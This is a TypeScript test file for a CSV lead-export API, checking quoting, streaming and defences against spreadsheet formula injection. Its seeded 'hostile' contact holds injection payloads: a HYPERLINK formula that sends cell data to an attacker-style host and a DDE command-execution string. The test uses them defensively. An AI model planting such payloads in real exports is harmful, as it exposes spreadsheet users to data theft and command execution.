/**
 * `GET /api/leads.csv`: RFC 4180 quoting that a real parser reads back exactly, formula
 * injection neutralised, the same rows and order as the JSON feed, and exports longer than one
 * internal page streamed whole.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell } from '../../collector/api/csv';
import { startCollector, TEST_DATABASES, type TestCollector } from '../helpers/server';
import { insertContact, insertContacts } from './seed';

/** A strict RFC 4180 reader: quoted fields, doubled quotes, CRLF records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += ch;
  }
  if (field !== '' || row.length > 0) throw new Error('CSV does not end with CRLF');
  return rows;
}

describe('csvCell', () => {
  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['=1+1', "'=1+1"],
    ['+33 1 23', "'+33 1 23"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=cmd', "'\t=cmd"],
    ['\r=cmd', `"'\r=cmd"`],
    ['=HYPERLINK("http://x","y")', `"'=HYPERLINK(""http://x"",""y"")"`],
    // Full-width and small forms, which some spreadsheets fold to ASCII before evaluating.
    ['\uFF1D1+1', "'\uFF1D1+1"],
    ['\uFF0BHYPERLINK(1)', "'\uFF0BHYPERLINK(1)"],
    ['\uFF0D2+3', "'\uFF0D2+3"],
    ['\uFF20SUM(A1)', "'\uFF20SUM(A1)"],
    ['\uFE66cmd', "'\uFE66cmd"],
    ['a\uFF1D1', 'a\uFF1D1'],
    [-10, '-10'],
    [12.5, '12.5'],
    [null, ''],
  ])('%j → %s', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });
});

describe.each(TEST_DATABASES)('GET /api/leads.csv on %s', (db) => {
  let server: TestCollector;
  const hostile = {
    name: '=HYPERLINK("http://evil.test/?"&A1,"Click me")',
    company: 'Acme, "Inc"\r\nSecond line',
    title: "+cmd|' /C calc'!A0",
    email: '@evil@example.com',
  };

  beforeAll(async () => {
    server = await startCollector({ db });
    await insertContact(server.services.db, {
      id: 'hostile',
      ...hostile,
      score: 90,
      stage: 'mql',
      source: '-1+1',
    });
    await insertContact(server.services.db, { id: 'negative', name: 'Neg', score: -15, stage: 'lead' });
    await insertContacts(
      server.services.db,
      Array.from({ length: 2_300 }, (_, i) => ({
        id: `bulk${String(i).padStart(4, '0')}`,
        site: 'pk_bulk',
        score: i % 97,
      })),
    );
  });
  afterAll(() => server?.close());

  it('quotes and neutralises hostile cells so a parser reads them back as text', async () => {
    const res = await server.api('/api/leads.csv?site=pk_test');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(res.headers.get('content-disposition')).toMatch(/attachment; filename="leads\.csv"/);
    const [header, ...rows] = parseCsv(await res.text());
    const col = (name: string) => header!.indexOf(name);
    const hostileRow = rows.find((r) => r[col('id')] === 'hostile')!;
    expect(hostileRow[col('name')]).toBe(`'${hostile.name}`);
    expect(hostileRow[col('company')]).toBe(hostile.company);
    expect(hostileRow[col('title')]).toBe(`'${hostile.title}`);
    expect(hostileRow[col('email')]).toBe(`'${hostile.email}`);
    expect(hostileRow[col('source')]).toBe("'-1+1");
    const negative = rows.find((r) => r[col('id')] === 'negative')!;
    expect(negative[col('score')]).toBe('-15');
    for (const row of rows) expect(row).toHaveLength(header!.length);
  });

  it('streams every matching row (more than one internal page) in the feed order', async () => {
    const res = await server.api('/api/leads.csv?site=pk_bulk&sort=score&order=asc');
    const [header, ...rows] = parseCsv(await res.text());
    expect(rows).toHaveLength(2_300);
    const ids = rows.map((r) => r[header!.indexOf('id')]);
    expect(new Set(ids).size).toBe(2_300);
    const json = (await (
      await server.api('/api/leads?site=pk_bulk&sort=score&order=asc&limit=500')
    ).json()) as {
      leads: { id: string }[];
    };
    expect(ids.slice(0, 500)).toEqual(json.leads.map((l) => l.id));
  });

  it('applies the same filters and refuses the same bad parameters', async () => {
    const rows = parseCsv(await (await server.api('/api/leads.csv?min_score=50&site=pk_test')).text());
    expect(rows.slice(1).map((r) => r[0])).toEqual(['hostile']);
    const bad = await server.api('/api/leads.csv?grade=Z');
    expect(bad.status).toBe(400);
  });
});
